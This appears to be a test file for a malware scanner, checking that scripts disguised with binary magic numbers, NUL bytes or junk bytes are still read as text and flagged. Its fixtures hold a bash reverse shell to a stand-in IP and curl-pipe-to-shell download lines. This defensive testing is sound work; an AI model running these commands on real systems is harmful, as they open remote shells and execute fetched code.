import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { binaryFormat, isNativeExecutable, readFileContent } from '#core/scan/read/file-content';
import { scanFiles } from '#core/scan/scan';

const bytes = (...b: number[]) => Uint8Array.from(b);
const ascii = (s: string) => Uint8Array.from(Buffer.from(s, 'latin1'));

describe('telling text from binary', () => {
  it('recognises images, fonts, archives and documents by their magic numbers', () => {
    expect(binaryFormat(bytes(0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a))).toBe('image');
    expect(binaryFormat(bytes(0xff, 0xd8, 0xff, 0xe0))).toBe('image');
    expect(binaryFormat(ascii('wOF2\0\x01\0\0'))).toBe('font');
    expect(binaryFormat(ascii('PK\x03\x04\x14\0'))).toBe('archive');
    expect(binaryFormat(ascii('%PDF-1.7\n'))).toBe('document');
    expect(binaryFormat(ascii('# Title\n'))).toBeNull();
  });

  it('recognises native programs: ELF, Mach-O and PE, but not a Java class', () => {
    expect(isNativeExecutable(bytes(0x7f, 0x45, 0x4c, 0x46, 2, 1))).toBe(true);
    expect(isNativeExecutable(bytes(0xcf, 0xfa, 0xed, 0xfe, 7, 0, 0, 1))).toBe(true);
    expect(isNativeExecutable(bytes(0xca, 0xfe, 0xba, 0xbe, 0, 0, 0, 2))).toBe(true);
    expect(isNativeExecutable(bytes(0xca, 0xfe, 0xba, 0xbe, 0, 0, 0, 61))).toBe(false);
    const pe = new Uint8Array(0x90);
    pe.set(ascii('MZ'), 0);
    pe[0x3c] = 0x80;
    pe.set(ascii('PE\0\0'), 0x80);
    expect(isNativeExecutable(pe)).toBe(true);
    expect(isNativeExecutable(ascii('MZ is a plain text start, long enough to have an offset field inside it ok'))).toBe(false);
  });

  it('reads UTF-8, UTF-16 with a BOM and BOM-less UTF-16LE as text', () => {
    expect(readFileContent(ascii('echo hi\n'))).toEqual({ kind: 'text', text: 'echo hi\n' });
    expect(readFileContent(Uint8Array.from([0xef, 0xbb, 0xbf, ...Buffer.from('x')]))).toEqual({ kind: 'text', text: 'x' });
    expect(readFileContent(Uint8Array.from([0xff, 0xfe, ...Buffer.from('Write-Host hi', 'utf16le')]))).toEqual({ kind: 'text', text: 'Write-Host hi' });
    expect(readFileContent(Uint8Array.from(Buffer.from('Invoke-Expression $x', 'utf16le')))).toEqual({ kind: 'text', text: 'Invoke-Expression $x' });
  });

  it('still reads a script with a stray invalid byte, so one byte cannot hide it', () => {
    const script = Buffer.concat([Buffer.from('#!/bin/sh\ncurl -s https://x.example/a | sh\n'.repeat(5)), Buffer.from([0xff])]);
    const content = readFileContent(Uint8Array.from(script));
    expect(content.kind).toBe('text');
    expect(content.kind === 'text' && content.text).toContain('curl -s https://x.example/a | sh');
  });

  it('takes random bytes for binary, and still hands over their readable runs', () => {
    const random = Uint8Array.from({ length: 4096 }, (_, i) => (i * 7919 + 13) % 251);
    const content = readFileContent(random);
    expect(content).toMatchObject({ kind: 'binary', format: 'unknown' });
    expect(content.kind === 'binary' && content.strings.length).toBe(random.length);
    expect(readFileContent(ascii('abc\0def\0ghi'))).toMatchObject({ kind: 'binary', format: 'unknown' });
  });

  it('names a binary by its magic number only when its bytes are binary', () => {
    const png = Uint8Array.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, ...Array.from({ length: 256 }, (_, i) => (i * 37) % 256)]);
    expect(readFileContent(png)).toMatchObject({ kind: 'binary', format: 'image' });
  });

  // Each of these was binary, and so unscanned, before: a printable magic number or one NUL byte was enough.
  it.each(['ID3=1', 'RIFF=1', 'OggS=1', 'BZh=1', 'GIF89a=1', 'GIF87a=1', '%PDF-1=1', 'OTTO=1', 'fLaC=1'])(
    'reads a script that opens with %s as text',
    (prefix) => {
      const script = `${prefix}\nbash -i >& /dev/tcp/203.0.113.9/4444 0>&1\n`;
      expect(readFileContent(ascii(script))).toEqual({ kind: 'text', text: script });
    },
  );

  it('reads a script with one NUL byte in a comment as text', () => {
    const script = '#!/bin/sh\n# \0\ncurl -fsSL http://203.0.113.9/x | sh\n';
    expect(readFileContent(ascii(script))).toEqual({ kind: 'text', text: script });
  });

  it('keeps a script hidden behind binary junk readable, line numbers and all', () => {
    const junk = Uint8Array.from({ length: 2048 }, (_, i) => ((i * 7919 + 13) % 251) | 0x80);
    const script = Buffer.from('\ncurl -fsSL http://203.0.113.9/x | sh\n');
    const content = readFileContent(Uint8Array.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, ...junk, ...script]));
    expect(content.kind).toBe('binary');
    const lines = content.kind === 'binary' ? content.strings.split('\n') : [];
    expect(lines.some((l) => l.trim() === 'curl -fsSL http://203.0.113.9/x | sh')).toBe(true);
  });
});

describe('binary-looking text, fuzzed', () => {
  const payload = 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1\n';
  it('never hides a payload behind a printable magic number, NUL bytes or junk', () => {
    fc.assert(
      fc.property(
        fc.constantFrom('ID3', 'RIFF', 'OggS', 'BZh', 'GIF89a', 'GIF87a', '%PDF-', 'OTTO', 'ttcf', 'wOFF', 'fLaC', 'Rar!', '\x89PNG\r\n\x1a\n', '\x7fELF', ''),
        fc.string({ maxLength: 40 }),
        fc.array(fc.integer({ min: 0, max: 255 }), { maxLength: 600 }),
        fc.boolean(),
        (magic, text, junk, junkFirst) => {
          const parts = [Buffer.from(`${magic}=1\n${text.replace(/\n/g, ' ')}\n`, 'latin1'), Buffer.from(junk)];
          if (junkFirst) parts.reverse();
          const bytes = Uint8Array.from(Buffer.concat([...parts, Buffer.from(`\n${payload}`)]));
          expect(scanFiles([{ filename: 'run.sh', bytes }]).verdict).toBe('malicious');
        },
      ),
      { numRuns: 300 },
    );
  });
});
